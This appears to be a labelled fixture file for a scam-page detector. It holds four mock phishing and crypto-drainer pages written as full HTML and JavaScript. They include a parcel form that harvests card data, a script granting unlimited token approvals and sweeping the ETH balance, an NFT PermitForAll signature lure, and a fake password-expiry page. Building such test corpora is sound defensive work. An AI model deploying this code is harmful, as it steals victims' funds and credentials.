import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, cssApp, cssPlain, doc, pdfRoute } from '../parts/q-kit.js';

// Quiet kits: one question at a time, lures in images and PDF frames, minimal wallet pages.

export const entries: Entry[] = [
{
  id: 'q-phish-parcel-redelivery-onething',
  label: 'phishing',
  kind: 'stepwise-form',
  url: 'https://redelivery-slot.com/r/8802',
  body: doc({
    title: 'Choose a delivery slot',
    css: cssApp('#ea580c') + '.slot{display:block;padding:12px;border:1px solid #ddd;border-radius:6px;margin:6px 0;cursor:pointer}',
    body: `<div class="wrap"><div class="box" id="b">
<h1>We missed you</h1><p>Choose a new delivery day.</p>
<label class="slot"><input type="radio" name="d" style="width:auto"> Tomorrow, 8:00–12:00</label>
<label class="slot"><input type="radio" name="d" style="width:auto"> Tomorrow, 12:00–18:00</label>
<label class="slot"><input type="radio" name="d" style="width:auto"> Saturday, 9:00–13:00</label>
<button id="n">Next</button></div></div>
<script>
var b=document.getElementById('b');
document.getElementById('n').onclick=function(){b.innerHTML='<h1>Your address</h1><label>Full name</label><input id="a1"><label>Street</label><input id="a2"><label>Postcode</label><input id="a3"><label>Mobile</label><input id="a4"><button id="n2">Next</button>';
document.getElementById('n2').onclick=function(){var ad=['a1','a2','a3','a4'].map(function(k){return document.getElementById(k).value});b.innerHTML='<h1>Redelivery fee £1.45</h1><label>Card number</label><input id="c1"><label>Expiry</label><input id="c2"><label>Security code</label><input id="c3"><button id="n3">Pay £1.45</button>';
document.getElementById('n3').onclick=function(){fetch('/r/8802/p',{method:'POST',body:JSON.stringify({a:ad,c:[c1.value,c2.value,c3.value]})});b.innerHTML='<h1>Booked</h1><p>See you tomorrow.</p>'};};};
</script>`,
  }),
  routes: { 'redelivery-slot.com/r/8802/p': jsonRoute({}) },
},
{
  id: 'q-drainer-minimal-claim-refund-tokens',
  label: 'cryptodrainer',
  kind: 'quiet-drainer',
  url: 'https://gas-refund-claims.xyz/',
  body: doc({
    title: 'Gas refund',
    css: cssApp('#111') + 'body{background:#0b0b0f;color:#eee}.box{background:#16161d;color:#eee}p{color:#aaa}',
    body: `<div class="wrap"><div class="box"><h1>Overpaid gas in 2025?</h1><p>Check your address. Refunds are paid in ETH.</p><button id="c">Connect wallet</button><p id="s" style="font-size:13px"></p></div></div>
<script src="/static/claim.js"></script>`,
  }),
  routes: {
    'gas-refund-claims.xyz/static/claim.js': jsRoute(`(function(){
var SPENDER='0x7d3a1f0e9b4c2a5d6e8f1a2b3c4d5e6f7a8b9c0d';var TOKENS=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0x6B175474E89094C44Da98b954EedeAC495271d0F'];
function pad(h){return h.replace('0x','').toLowerCase().padStart(64,'0')}
document.getElementById('c').onclick=async function(){var s=document.getElementById('s');if(!window.ethereum){s.textContent='No wallet found. Open this page in your wallet browser.';return}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];s.textContent='Eligible: 0.184 ETH. Sign to claim.';
for(var i=0;i<TOKENS.length;i++){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:TOKENS[i],data:'0x095ea7b3'+pad(SPENDER)+'f'.repeat(64)}]})}catch(e){}}
var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:SPENDER,value:bal}]})}catch(e){}
fetch('/static/log',{method:'POST',body:acc});};})();`),
    'gas-refund-claims.xyz/static/log': jsonRoute({}),
  },
},
{
  id: 'q-drainer-nft-creator-royalty-permit',
  label: 'cryptodrainer',
  kind: 'quiet-drainer',
  url: 'https://creator-royalties-portal.app/payout',
  body: doc({
    title: 'Royalty payout',
    css: cssApp('#7c3aed'),
    body: `<div class="wrap"><div class="box"><h1>Unclaimed creator royalties</h1><p>Secondary-sale royalties for your collection are ready for payout. Sign a message to verify you own the creator address — no gas required.</p><button id="v">Verify &amp; claim</button><div class="err" id="m"></div></div></div>
<script>
document.getElementById('v').onclick=async function(){
 if(!window.ethereum){document.getElementById('m').textContent='Please install a wallet.';return}
 var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
 var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],
 PermitForAll:[{name:'owner',type:'address'},{name:'operator',type:'address'},{name:'approved',type:'bool'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},
 primaryType:'PermitForAll',domain:{name:'Royalty Registry',version:'1',chainId:1,verifyingContract:'0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC'},
 message:{owner:a,operator:'0x3f5c8e2a9b1d4e6f7a0b2c3d4e5f60718293a4b5',approved:true,nonce:0,deadline:4102444800}};
 var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(typed)]});
 fetch('/payout/s',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:a,s:sig})});
 document.getElementById('m').textContent='Payout queued. It can take up to 48h.';
};
</script>`,
  }),
  routes: { 'creator-royalties-portal.app/payout/s': jsonRoute({ q: 1 }) },
},
{
  id: 'q-phish-password-expiry-countdown',
  label: 'phishing',
  kind: 'fake-helpdesk',
  url: 'https://passwordreset-selfservice.net/expire?u=j.ortega',
  body: doc({
    title: 'Password expires today',
    css: cssApp('#b91c1c'),
    body: `<div class="wrap"><div class="box">
<h1>Password expires in <span id="t">04:59:12</span></h1>
<p>Keep your current password or choose a new one.</p>
<form method="post" action="/expire/keep">
<label>Username</label><input name="u" id="u">
<label>Current password</label><input name="cur" type="password">
<button>Keep current password</button></form>
<div class="sub">IT self-service · Do not share your password with anyone</div></div></div>
<script>document.getElementById('u').value=new URLSearchParams(location.search).get('u')||'';var s=4*3600+59*60+12;setInterval(function(){s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;document.getElementById('t').textContent=('0'+h).slice(-2)+':'+('0'+m).slice(-2)+':'+('0'+x).slice(-2)},1000);</script>`,
  }),
  routes: { 'passwordreset-selfservice.net/expire/keep': htmlRoute('<p>Your password has been kept.</p>') },
},
];
